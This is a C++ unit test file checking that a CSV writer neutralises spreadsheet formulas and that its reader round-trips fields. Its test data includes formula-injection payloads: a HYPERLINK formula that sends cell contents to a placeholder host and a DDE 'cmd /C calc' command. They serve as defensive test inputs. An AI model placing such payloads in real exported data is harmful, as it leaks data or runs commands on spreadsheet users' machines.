#include "common/base/csv.h"

#include <doctest/doctest.h>

using namespace proctor;

namespace {

using Record = std::vector<std::string>;

std::vector<Record> read(std::string_view text) {
  std::vector<Record> out;
  CsvReader reader(text);
  std::vector<std::string_view> fields;
  for (;;) {
    const Result<bool> more = reader.next(fields);
    REQUIRE(more.ok());
    if (!*more) return out;
    out.emplace_back(fields.begin(), fields.end());
  }
}

void append_record(std::string& out, const Record& fields) {
  for (std::size_t i = 0; i < fields.size(); ++i) {
    if (0 < i) out += ',';
    csv_append(out, csv_harmless(fields[i]));
  }
  out += '\n';
}
}  // namespace

TEST_SUITE("base") {
  // Found by tests/fuzz/csv.cc.
  TEST_CASE("records that are written are read back whatever is in them") {
    const std::vector<Record> records = {
        {"\xEF\xBB\xBFmark"}, {"", ""}, {"a,b", "\"", "c\r\nd"}, {"\r"}, {" "}};
    for (const Record& record : records) {
      std::string text;
      append_record(text, record);
      CAPTURE(text);
      Record harmless;
      for (const std::string& field : record) harmless.push_back(csv_harmless(field));
      CHECK(read(text) == std::vector<Record>{harmless});
    }
  }

  TEST_CASE("what a spreadsheet would run as a formula is text and numbers stay numbers") {
    const std::vector<std::pair<const char*, const char*>> rows = {
        {"=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"},
        {"@SUM(1)", "'@SUM(1)"},
        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
        {"-2+3", "'-2+3"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "'\r=1+1"},
        {"\n=1+1", "'\n=1+1"},
        {"\xEF\xBC\x9D"
         "1+1",
         "'\xEF\xBC\x9D"
         "1+1"},
        {"-", "'-"},
        {"--1", "'--1"},
        {"-1.", "'-1."},
        {"+.5", "'+.5"},
        {"-0.25", "-0.25"},
        {"+3", "+3"},
        {"-17", "-17"},
        {"-1.5e-05", "-1.5e-05"},
        {"-1e", "'-1e"},
        {"-1e5+A1", "'-1e5+A1"},
        {"a=b", "a=b"},
        {"'=1", "'=1"},
        {"", ""}};
    for (const auto& [field, shown] : rows) {
      const std::string_view given = field;
      CAPTURE(given);
      CHECK(csv_harmless(field) == shown);
      std::string text;
      append_record(text, {"x", field});
      CHECK(read(text) == std::vector<Record>{{"x", shown}});
      // Files that are read back have what was said.
      std::string exact = "x,";
      csv_append(exact, field);
      if (*field != 0) CHECK(read(exact + "\n") == std::vector<Record>{{"x", field}});
    }
  }
}
